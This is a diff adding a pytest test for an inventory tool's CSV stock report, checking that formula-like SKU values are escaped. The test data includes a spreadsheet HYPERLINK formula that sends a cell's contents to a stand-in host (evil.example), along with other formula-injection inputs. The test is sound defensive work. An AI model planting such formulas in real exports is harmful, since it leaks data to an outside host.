@@ -165,3 +165,23 @@ def test_report_shows_each_skus_unit(config: Path, capsys: pytest.CaptureFixture
     }
     assert cli(config, "stock", "report", "--sku", "TEA-001") == 0
     assert re.search(r"TEA-001\s*│\s*g\s*│\s*DS-GZ", capsys.readouterr().out)
+
+
+def test_report_csv_cells_never_run_as_formulas(
+    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    engine = make_engine(f"sqlite:///{tmp_path / 'e.db'}")
+    with engine.begin() as conn:
+        ids = dict(conn.exec_driver_sql("SELECT code, id FROM location").tuples().all())
+        for sku in hostile:
+            stock.adjust(conn, sku, ids["DS-GZ"], 3, ref="count")
+        stock.adjust(conn, "NEG-1", ids["DS-GZ"], -4, ref="write-off before the count")
+    engine.dispose()
+
+    assert cli(config, "stock", "report", "--format", "csv", "--location", "DS-GZ") == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    skus = {row[0] for row in rows[1:]}
+    assert {"'" + sku for sku in hostile} <= skus
+    assert not skus & set(hostile)
+    assert next(row for row in rows if row[0] == "NEG-1")[3] == "-4"  # a number, not a formula
